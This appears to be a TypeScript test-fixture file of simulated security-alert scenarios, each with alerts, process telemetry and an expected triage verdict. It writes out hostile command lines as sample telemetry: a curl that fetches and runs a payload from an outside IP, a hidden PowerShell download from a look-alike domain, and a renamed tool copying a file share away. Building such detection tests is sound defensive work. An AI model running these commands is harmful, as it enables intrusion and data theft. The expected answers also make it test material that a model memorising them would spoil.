// What leads on from the log of a machine: the addresses in harmful commands, scripts from downloads, renamed copying tools; and their look-alikes.
import type { Setting } from '../../../world/setting.ts'
import {
  alert,
  by,
  clean,
  closed,
  fileSeen,
  harmless,
  hostile,
  ran,
  situation,
  undecided,
  worthALook,
} from '../../shorthand.ts'

const minute = 60_000

/** As a monitor of integrity or load sends it: it claims no attack. */
const changed = (setting: Setting, at: number, host: string, path: string) =>
  alert(setting, at, 'quietwatch', 'Content changed', {
    id: setting.seeded.guid(`quietwatch ${at}`),
    time: setting.iso(at),
    host,
    severity: 'info',
    entity: { kind: 'file', path, change: 'created', owner: 'www-data' },
    baseline: { built: setting.iso(at - 5 * 86_400_000), entities: 18_204 },
  })

const shell = (setting: Setting, at: number, command: string) =>
  ran(setting.machine('srv-web-01'), at, 'sh', `sh -c ${command}`, {
    AccountName: 'www-data',
    InitiatingProcessFileName: 'php-fpm8.1',
  })

export const commandServerInACommand = situation(
  'command-server-in-a-command',
  'signals',
  'A file of the web site changed, and its server fetches from a known command server',
  (setting) => {
    const at = setting.ago({ hours: 2 })
    return {
      alerts: [changed(setting, at, 'srv-web-01', '/var/www/portal/public/uploads/thumb.php')],
      facts: {
        telemetry: [
          shell(setting, at + 3 * minute, 'id; uname -a'),
          shell(setting, at + 5 * minute, 'curl -fsSL http://45.138.16.203/l/k -o /dev/shm/.k && /dev/shm/.k'),
        ],
      },
      expected: hostile('srv-web-01'),
      because: 'The web server started a shell that fetched a program from a known command server and ran it.',
    }
  },
)

export const shellOfTheWebServer = situation(
  'shell-of-the-web-server',
  'signals',
  'A file of the web site changed, and its server starts shells',
  (setting) => {
    const at = setting.ago({ hours: 2 })
    return {
      alerts: [changed(setting, at, 'srv-web-01', '/var/www/portal/public/uploads/thumb.php')],
      facts: {
        telemetry: [
          shell(setting, at + 3 * minute, 'id; uname -a'),
          shell(setting, at + 5 * minute, 'curl -fsSL http://194.68.130.77/l/k -o /dev/shm/.k'),
        ],
      },
      expected: worthALook,
      because: 'A web server starts no shells that fetch into memory; nobody knows the address.',
    }
  },
)

export const shellWhileTheBackupEnded = situation(
  'shell-while-the-backup-ended',
  'signals',
  'A backup that completed, on a server that starts shells',
  (setting) => {
    const at = setting.ago({ hours: 2 })
    return {
      alerts: [
        alert(setting, at, 'quietwatch', 'Backup completed', {
          time: setting.iso(at),
          host: 'srv-web-01',
          severity: 'info',
          result: 'success',
        }),
      ],
      facts: {
        telemetry: [
          shell(setting, at + 3 * minute, 'id; uname -a'),
          shell(setting, at + 5 * minute, 'curl -fsSL http://194.68.130.77/l/k -o /dev/shm/.k'),
        ],
      },
      expected: worthALook,
      because: 'The backup is nothing, and what its server did is not.',
    }
  },
)

const uploaded = (setting: Setting, at: number) => {
  const grace = setting.person('grace.mbeki')
  return alert(setting, at, 'tidegate', 'Large upload to a storage site', {
    id: setting.seeded.guid(`tidegate ${at}`),
    time: setting.iso(at),
    src_ip: setting.addressAt(setting.laptopOf('grace.mbeki'), at),
    src_host: setting.laptopOf('grace.mbeki').host,
    user: grace.account,
    bytes_out: 3_921_004_112,
    action: 'allowed',
  })
}

const copied = (setting: Setting, at: number, commands: readonly [name: string, command: string][]) =>
  commands.map(([name, command], index) =>
    ran(setting.laptopOf('grace.mbeki'), at + index * 2 * minute, name, command, {
      ...by(setting.person('grace.mbeki')),
      InitiatingProcessFileName: index === 0 ? 'explorer.exe' : 'wscript.exe',
    }),
  )

export const scriptThatCopiedAway = situation(
  'script-that-copied-away',
  'signals',
  'A script from a download fetched a renamed tool, which copied a share away two hours later',
  (setting) => {
    const at = setting.ago({ hours: 2 })
    return {
      alerts: [uploaded(setting, at)],
      facts: {
        telemetry: [
          ...copied(setting, at - 100 * minute, [
            ['wscript.exe', 'wscript.exe "C:\\Users\\grace.mbeki\\Downloads\\Order_4471.js"'],
            [
              'powershell.exe',
              'powershell.exe -w hidden -c "iwr https://docs.paperbox-orders.com/p.zip -OutFile $env:TEMP\\p.zip"',
            ],
          ]),
          ...copied(setting, at - 30 * minute, [
            [
              'svtask.exe',
              'svtask.exe copy "\\\\srv-files-01\\Procurement" m:bos --max-age 2y --transfers 12 --config c.conf',
            ],
          ]),
        ],
      },
      expected: hostile(setting.laptopOf('grace.mbeki').host),
      because: 'A downloaded script, a hidden fetch and a renamed tool that copies a share away are one attack.',
    }
  },
)

export const scriptOfTheLogon = situation(
  'script-of-the-logon',
  'signals',
  'A script of the organization ran before an upload',
  (setting) => {
    const at = setting.ago({ hours: 2 })
    return {
      alerts: [uploaded(setting, at)],
      facts: {
        telemetry: copied(setting, at - 100 * minute, [
          ['wscript.exe', 'wscript.exe "\\\\havskoginstruments.com\\netlogon\\drives.vbs"'],
          ['robocopy.exe', 'robocopy.exe "C:\\Work" "\\\\srv-files-01\\Procurement" /MIR'],
        ]),
      },
      expected: undecided,
      because: 'The logon script and a copy to the own file server are work, and nobody has explained the upload.',
    }
  },
)

/** The updater of the bench starts a shell: judged on another laptop, with the shell among its evidence. */
const updater = (setting: Setting, at: number, hash: string) => {
  const machine = setting.laptopOf('greta.engman')
  return alert(setting, at, 'northguard_av', 'Suspicious launch', {
    time: setting.iso(at),
    computer: machine.host,
    user: setting.person('greta.engman').account,
    application: { name: 'BenchUpdater.exe', path: 'C:\\Program Files\\Bench\\BenchUpdater.exe', sha256: hash },
    launched: ['C:\\Windows\\System32\\cmd.exe'],
    action: 'blocked',
  })
}

const judgedElsewhere = (setting: Setting) =>
  closed(
    setting,
    'bench updater',
    {
      title: 'Suspicious launch of cmd.exe by BenchUpdater.exe',
      category: 'Execution',
      severity: 'Medium',
      at: setting.ago({ days: 13 }),
      machine: setting.laptopOf('hugo.ahlgren'),
      user: setting.person('hugo.ahlgren'),
      evidence: [
        fileSeen(setting, 'BenchUpdater.exe', 'C:\\Program Files\\Bench'),
        {
          kind: 'File',
          name: 'cmd.exe',
          path: 'C:\\Windows\\System32',
          file: setting.file('cmd.exe'),
          status: 'Detected',
        },
      ],
    },
    'FalsePositive',
    'NotMalicious',
    'The updater of the bench starts cmd to map its drive. More benches follow.',
  )

export const updaterOnTheNextLaptop = situation(
  'updater-on-the-next-laptop',
  'signals',
  'The same file that was judged on the laptop of a colleague',
  (setting) => {
    const { sha256 } = setting.file('BenchUpdater.exe')
    return {
      alerts: [updater(setting, setting.ago({ hours: 3 }), sha256)],
      facts: { incidents: [judgedElsewhere(setting).incident], intelligence: [clean(setting, 'hash', sha256)] },
      expected: harmless,
      because: 'People judged this very file harmless two weeks ago, where it did the same.',
    }
  },
)

export const anotherUpdaterOfThatName = situation(
  'another-updater-of-that-name',
  'signals',
  'Another file of the name that was judged on the laptop of a colleague',
  (setting) => {
    const { sha256 } = setting.file('BenchUpdater.exe 2')
    return {
      alerts: [updater(setting, setting.ago({ hours: 3 }), sha256)],
      facts: { incidents: [judgedElsewhere(setting).incident] },
      expected: undecided,
      because: 'It is another file by its hash, which nobody knows.',
    }
  },
)
